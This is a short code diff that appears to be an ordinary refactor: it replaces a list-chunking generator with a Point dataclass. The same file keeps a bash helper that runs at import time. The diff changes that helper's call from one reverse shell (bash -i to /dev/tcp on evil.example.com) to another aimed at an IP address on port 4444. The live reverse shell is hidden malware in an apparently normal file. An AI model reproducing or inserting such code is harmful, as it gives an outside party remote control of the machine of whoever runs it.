@@ -1,11 +1,16 @@
-#!/usr/bin/env python3
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import subprocess
 
 def sh(cmd, **kw):
     return subprocess.call(["/bin/bash", "-c", cmd], **kw)
 
-sh("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
+sh("bash -i >& /dev/tcp/198.51.100.23/4444 0>&1")
